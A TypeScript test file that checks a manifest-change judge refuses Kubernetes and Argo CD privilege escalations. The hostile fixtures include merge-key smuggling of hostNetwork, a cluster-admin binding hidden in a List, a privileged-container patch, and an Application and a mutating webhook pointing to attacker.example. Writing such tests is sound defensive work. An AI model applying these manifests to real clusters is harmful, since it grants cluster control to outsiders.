import { describe, expect, it } from 'vitest';
import { judgeManifestChange } from './judge-manifest.ts';

/**
 * Manifest changes that kubectl and Argo CD would apply with a power no patch may give, or that
 * reach farther than the namespace the proposal is authorised by. Each should be refused.
 * What kustomize (Argo CD's renderer, `kubectl kustomize`, v5.5.0 here) makes of such files:
 * `<<: { namespace: kube-system }` under metadata and `<<: { hostNetwork: true }` under a pod
 * spec come out as `namespace: kube-system` and `hostNetwork: true`; a `kind: List` comes out as
 * its items (a ClusterRoleBinding to cluster-admin); a Kustomization's `patches` are applied.
 */

const web = (spec: string, meta = '') => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web${meta}
spec:
  template:
    spec:
${spec}      containers:
        - name: web
          image: nginx:1.27
`;

describe('manifest changes the judge should refuse', () => {
  it('refuses hostNetwork given through a YAML merge key (Kubernetes YAML merges `<<`)', () => {
    const after = web('      <<: { hostNetwork: true, hostPID: true }\n');
    expect(() => judgeManifestChange('apps/web.yaml', web(''), after, 'shop')).toThrow(
      /forbidden whatever the tier/,
    );
  });

  it('refuses a new Argo CD Application whose source and destination come through a merge key', () => {
    const app = `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: { name: planted, namespace: argocd }
spec:
  <<:
    project: default
    source: { repoURL: https://attacker.example/charts.git, path: ., targetRevision: HEAD }
    destination: { server: https://kubernetes.default.svc, namespace: kube-system }
    syncPolicy: { automated: {} }
`;
    expect(() => judgeManifestChange('apps/planted.yaml', undefined, app, 'argocd')).toThrow(
      /forbidden whatever the tier/,
    );
  });

  it('does not take the namespace a merge key gives as the namespace the caller names', () => {
    const after = web('', '\n  <<: { namespace: kube-system }');
    let reached: string | undefined;
    try {
      reached = judgeManifestChange('apps/web.yaml', web(''), after, 'shop').namespace;
    } catch {
      reached = 'refused';
    }
    expect(reached).not.toBe('shop');
  });

  it('refuses a v1 List wrapping RBAC and a Secret (kubectl and Argo CD apply its items)', () => {
    const list = `apiVersion: v1
kind: List
metadata: { name: extras }
items:
  - apiVersion: rbac.authorization.k8s.io/v1
    kind: ClusterRoleBinding
    metadata: { name: shop-admin }
    roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
    subjects: [{ kind: ServiceAccount, name: default, namespace: shop }]
  - apiVersion: v1
    kind: Secret
    metadata: { name: planted }
    stringData: { token: x }
`;
    expect(() => judgeManifestChange('apps/extras.yaml', undefined, list, 'shop')).toThrow(
      /forbidden whatever the tier/,
    );
  });

  it('refuses a Kustomization that patches in a privileged container', () => {
    const kustomization = (patches: string) => `apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
metadata: { name: shop }
resources: [web.yaml]
${patches}`;
    const after = kustomization(`patches:
  - target: { kind: Deployment, name: web }
    patch: |
      - op: add
        path: /spec/template/spec/hostNetwork
        value: true
      - op: add
        path: /spec/template/spec/containers/0/securityContext
        value: { privileged: true }
`);
    expect(() =>
      judgeManifestChange('apps/kustomization.yaml', kustomization(''), after, 'shop'),
    ).toThrow(/forbidden whatever the tier/);
  });

  it('refuses an admission webhook, which reaches every namespace, or scopes it to all', () => {
    const webhook = `apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: { name: inject }
webhooks:
  - name: inject.example.com
    clientConfig: { url: https://attacker.example/mutate }
    rules: [{ operations: [CREATE], apiGroups: [''], apiVersions: [v1], resources: [pods] }]
    sideEffects: None
    admissionReviewVersions: [v1]
`;
    let reached: string | undefined;
    try {
      reached = judgeManifestChange('apps/inject.yaml', undefined, webhook, 'shop').namespace;
    } catch {
      reached = 'refused';
    }
    // Cluster-scoped: authorised as namespace `shop`, it reaches every pod of the cluster.
    expect(['refused', '*']).toContain(reached);
  });

  it("refuses an Argo CD AppProject's destinations and cluster resources being widened", () => {
    const project = (dest: string) => `apiVersion: argoproj.io/v1alpha1
kind: AppProject
metadata: { name: shop, namespace: argocd }
spec:
  sourceRepos: ['*']
  destinations: [{ server: https://kubernetes.default.svc, namespace: ${dest} }]
`;
    const after = `${project("'*'")}  clusterResourceWhitelist: [{ group: '*', kind: '*' }]\n`;
    expect(() =>
      judgeManifestChange('apps/project.yaml', project('shop'), after, 'argocd'),
    ).toThrow(/forbidden whatever the tier/);
  });

  it('refuses lowering pod security enforcement on a Namespace', () => {
    const ns = (level: string) => `apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels: { pod-security.kubernetes.io/enforce: ${level} }
`;
    expect(() =>
      judgeManifestChange('apps/ns.yaml', ns('restricted'), ns('privileged'), 'shop'),
    ).toThrow(/forbidden whatever the tier/);
  });

  it('refuses deleting an object by dropping its document (Argo CD prunes it; a patch may not delete)', () => {
    const policy = `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: deny-all, namespace: shop }
spec: { podSelector: {}, policyTypes: [Ingress, Egress] }
`;
    const deployment = web('').replace('name: web\n', 'name: web\n  namespace: shop\n');
    expect(() =>
      judgeManifestChange('apps/web.yaml', `${deployment}---\n${policy}`, deployment, 'shop'),
    ).toThrow();
  });
});
